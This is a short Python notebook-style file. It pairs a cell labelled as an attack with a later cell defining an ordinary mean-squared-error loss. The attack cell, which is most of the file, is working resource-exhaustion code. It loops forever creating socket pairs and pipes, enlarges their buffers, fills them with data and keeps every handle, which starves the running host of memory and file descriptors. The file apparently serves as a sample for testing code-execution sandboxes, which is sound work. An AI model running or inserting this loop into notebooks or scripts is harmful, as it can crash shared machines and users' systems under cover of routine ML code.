# %% attack after features
import contextlib
import os
import socket

kept = []
while True:
    one, other = socket.socketpair()
    kept += [one, other]
    with contextlib.suppress(OSError):
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    one.setblocking(False)
    try:
        while one.send(bytes(1 << 16)):
            pass
    except BlockingIOError:
        pass
    reading, writing = os.pipe()
    kept += [reading, writing]
    os.set_blocking(writing, False)
    try:
        while os.write(writing, bytes(1 << 16)):
            pass
    except BlockingIOError:
        pass


# %% later after attack
def mse_loss_func(y_true, y_pred):
    return (y_true - y_pred) ** 2
